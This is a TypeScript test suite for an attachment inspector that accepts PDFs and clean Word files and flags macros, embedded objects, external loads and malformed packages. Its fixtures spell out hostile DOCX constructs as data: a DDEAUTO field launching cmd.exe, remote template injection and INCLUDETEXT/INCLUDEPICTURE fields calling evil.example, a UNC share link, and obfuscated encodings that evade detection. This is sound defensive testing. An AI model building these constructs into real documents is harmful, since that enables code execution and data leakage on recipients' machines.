import { Document, ExternalHyperlink, Footer, Packer, PageNumber, Paragraph, TextRun } from 'docx';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { describe, expect, it } from 'vitest';
import { datedResume } from '#server/testing/pdf/sample-pdfs.ts';
import { inspectAttachment } from './attachment-kind.ts';

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (kind: string, target: string, more = '') =>
  `<Relationship Id="rId1" Type="${office}/${kind}" Target="${target}"${more}/>`;
const outside = ' TargetMode="External"';
const relations = (...tags: string[]) =>
  `<?xml version="1.0"?>\n<Relationships xmlns="x">${tags.join('\n')}</Relationships>`;
const body = (inside: string) => `<w:document><w:body><w:p>${inside}</w:p></w:body></w:document>`;
const run = (words: string) => `<w:r><w:instrText xml:space="preserve">${words}</w:instrText></w:r>`;

function docx(more: Record<string, string> = {}): Uint8Array {
  const parts: Record<string, string> = {
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': body('<w:r><w:t>DDEAUTO in the text of an essay is a word like any other.</w:t></w:r>'),
    'word/media/image1.png': 'a picture',
    'word/': '',
    ...more,
  };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])) as Zippable);
}
const documentRels = (...tags: string[]) => docx({ 'word/_rels/document.xml.rels': relations(...tags) });
const fields = (inside: string) => docx({ 'word/document.xml': body(inside) });

describe('a file that is taken', () => {
  it('is a PDF', async () => {
    expect(await inspectAttachment(datedResume())).toEqual({ kind: 'pdf' });
  });

  it('is a Word document as a program writes it, with links and page numbers', async () => {
    const link = new ExternalHyperlink({ link: 'https://example.com/?a=1&b=2', children: [new TextRun('a link')] });
    const footer = new Footer({
      children: [new Paragraph({ children: [new TextRun({ children: [PageNumber.CURRENT] })] })],
    });
    const children = [new Paragraph({ text: 'Dear Sam', heading: 'Heading1' }), new Paragraph({ children: [link] })];
    const bytes = await Packer.toBuffer(new Document({ sections: [{ footers: { default: footer }, children }] }));
    expect(await inspectAttachment(bytes)).toEqual({ kind: 'docx' });
  });

  it.each([
    ['nothing special', docx()],
    [
      'links to pages, to mail and into itself',
      documentRels(
        relation('hyperlink', 'https://a.example/?x=1&amp;y=2', outside),
        relation('hyperlink', 'mailto:a@b.c', outside),
        relation('image', 'media/image1.png'),
      ),
    ],
    [
      'fields of its own',
      fields(
        run(' PAGE ') + run(' HYPERLINK "https://a.example/dde?x&amp;y" ') + '<w:fldSimple w:instr=" NUMPAGES "/>',
      ),
    ],
  ])('is a document with %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ kind: 'docx' });
  });
});

describe('a file that is refused', () => {
  it.each([
    ['an old program', docx({ 'word/media/a.exe': 'MZ' })],
    ['a script', docx({ 'word/a.js': 'x' })],
    ['a part without an ending', docx({ 'word/payload': 'x' })],
    ['an embedded object', docx({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['an embedded sheet', docx({ 'word/embeddings/sheet.xml': 'x' })],
    ['a control', docx({ 'word/activeX/activeX1.xml': 'x' })],
    ['a relation to an object', documentRels(relation('oleObject', 'media/image1.png'))],
    ['a chunk of another kind', documentRels(relation('aFChunk', 'a.xml'))],
    [
      'the type of an object',
      docx({
        '[Content_Types].xml':
          '<Types><Default Extension="png" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/></Types>',
      }),
    ],
  ])('has something else inside: %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ danger: 'embedded' });
  });

  it.each([
    ['the project', docx({ 'word/vbaProject.bin': 'x' })],
    ['its data', docx({ 'word/VBADATA.xml': 'x' })],
    [
      'the type of a docm',
      docx({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
    ],
    [
      'the type of a dotm',
      docx({
        '[Content_Types].xml':
          '<Types><Override ContentType="application/vnd.ms-word.template.MACROENABLEDTemplate.main+xml"/></Types>',
      }),
    ],
    [
      'a relation to a project',
      documentRels(
        '<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"/>',
      ),
    ],
  ])('has macros: %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ danger: 'macros' });
  });

  it.each([
    [
      'a template',
      docx({
        'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://evil.example/a.dotm', outside)),
      }),
    ],
    [
      'a template of this machine',
      docx({ 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'file:///C:/a.dotx', outside)) }),
    ],
    ['a picture', documentRels(relation('image', 'https://evil.example/a.png', outside))],
    ['a part of a document', documentRels(relation('subDocument', 'https://evil.example/a.docx', outside))],
    ['a file of another machine behind a link', documentRels(relation('hyperlink', '\\\\evil\\share\\a', outside))],
    [
      'a template written in other quotes',
      documentRels(`<r:Relationship Type='${office}/attachedTemplate'\n TargetMode = 'External' Target='a>b' />`),
    ],
    ['a program by a field', fields(run(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" '))],
    ['a program by a field that is split', fields(run(' PAGE') + run('DDE') + run('AUTO c:\\\\a.exe '))],
    ['a file by a field', fields('<w:fldSimple w:instr="INCLUDETEXT &quot;https://evil.example/a&quot;"/>')],
    ['a picture by a field', docx({ 'word/header1.xml': run('includepicture "https://evil.example/a"') })],
  ])('loads from outside: %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ danger: 'outside' });
  });

  it.each([
    [
      'relations that are cut',
      docx({ 'word/_rels/document.xml.rels': '<Relationships><Relationship Type="x" Target="' }),
    ],
    ['relations with a document type', docx({ 'word/_rels/document.xml.rels': '<!DOCTYPE a><Relationships/>' })],
    ['a mode in disguise', documentRels(relation('attachedTemplate', 'a', ' TargetMode="&#69;xternal"'))],
    ['a type in disguise', documentRels(relation('attached&#84;emplate', 'a', outside))],
    ['another way to write letters', docx({ 'word/_rels/document.xml.rels': 'R\u0000e\u0000l\u0000' })],
    ['types in disguise', docx({ '[Content_Types].xml': '<Types><Override ContentType="macro&#69;nabled"/></Types>' })],
    ['a field in disguise', fields(run('&#68;DEAUTO'))],
    ['a field with a comment in it', fields(run('DDE<!-- -->AUTO'))],
    ['one name twice', docx({ 'word/Document.xml': body('') })],
    ['ten megabytes of relations', docx({ 'word/_rels/document.xml.rels': ' '.repeat(10_000_000) })],
  ])('cannot be understood: %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ danger: 'damaged' });
  });

  it.each([
    ['nothing', new Uint8Array()],
    ['a zip of something else', zipSync({ 'a.txt': strToU8('a') })],
    ['a sheet', zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<a/>') })],
    ['a document that was cut', docx().subarray(0, 200)],
  ])('is none of the two: %s', async (_what, bytes) => {
    expect(await inspectAttachment(bytes)).toEqual({ danger: 'unknown' });
  });
});
